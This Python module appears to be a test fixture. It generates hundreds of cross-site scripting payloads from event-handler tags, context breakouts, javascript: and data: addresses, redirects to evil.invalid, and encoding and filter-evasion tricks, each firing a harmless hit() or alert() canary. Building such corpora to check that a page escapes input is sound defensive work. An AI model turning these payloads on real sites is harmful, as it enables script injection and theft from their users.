"""Attacks on a page that shows text: made systematically from tags, handlers, breakouts, addresses and encodings.

Each one, if it were ever parsed as HTML, script, style or an unsafe address, would call `hit(n)` or `alert(n)`.
"""

from __future__ import annotations

from itertools import product

CALLS = ("hit(1)", "alert(1)", "top.hit(1)", "window['hi'+'t'](1)", "eval('hi'+'t(1)')", "hit`1`")
BREAKOUTS = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</style>{}",
    "</script>{}",
    "</title>{}",
    "-->{}",
    "]]>{}",
    "<!--{}",
    "`${{{}}}`",
)
TAGS = (
    '<img src=x onerror="{}">',
    "<img/src=x/onerror={}>",
    "<IMG SRC=x ONERROR={}>",
    '<svg onload="{}">',
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{}'><text x=20 y=20>x</text></a>",
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src='data:text/javascript,{}'></script>",
    "<scr<script>ipt>{}</script>",
    '<body onload="{}">',
    '<iframe src="javascript:{}"></iframe>',
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    '<input autofocus onfocus="{}">',
    '<details open ontoggle="{}">',
    '<video><source onerror="{}">',
    '<audio src=x onerror="{}">',
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<a href="javascript:{}">x</a>',
    '<form action="javascript:{}"><button autofocus>x</button></form>',
    '<button formaction="javascript:{}">x</button>',
    '<math><mtext><mglyph><style><img src=x onerror="{}">',
    '<meta http-equiv="refresh" content="0;url=javascript:{}">',
    "<base href='javascript:{};//'>",
    '<div style="background:url(javascript:{})">',
    '<template><img src=x onerror="{}"></template>',
    '<marquee onstart="{}">x</marquee>',
    '<style>@keyframes x{{}}</style><p style="animation-name:x" onanimationstart="{}"></p>',
    '<x onfocus="{}" tabindex=1 id=x></x>',
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    '<select><style></select><img src=x onerror="{}"></style>',
    '<guidepost-chat starters="{}"></guidepost-chat>',
    "<link rel=stylesheet href='javascript:{}'>",
)
ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "\x01javascript:{}",
    "javascript&colon;{}",
    "javascript://%0a{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "//evil.invalid/{}",
    "/\\evil.invalid/{}",
    "/\t/evil.invalid/{}",
    "https:javascript:{}",
    "blob:javascript:{}",
    "feed:javascript:{}",
)
ENCODINGS = (
    "&lt;img src=x onerror={}&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "＜script＞{}＜/script＞",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\u202e<script>{}</script>\u202c",
    "<\x00script>{}</script>",
    "<img src=x onerror\x0b={}>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    "[x](javascript:{})",
    "![x](x 'onerror={}')",
    "__proto__[{}]",
    "*{{background:url(//evil.invalid/{})}}",
    "}}*{{x:expression({})}}",
)


def payloads() -> list[str]:
    """Every tag, address and encoding, each with a call of its own; the commonest tags behind every breakout."""
    calls = [*CALLS]
    plain = [form.format(calls[number % len(calls)]) for number, form in enumerate((*TAGS, *ADDRESSES, *ENCODINGS))]
    broken = [
        breakout.format(tag.format(call))
        for (breakout, tag), call in zip(
            product(BREAKOUTS[1:], TAGS[:14]), calls * len(BREAKOUTS) * len(TAGS), strict=False
        )
    ]
    return list(dict.fromkeys([*plain, *broken]))
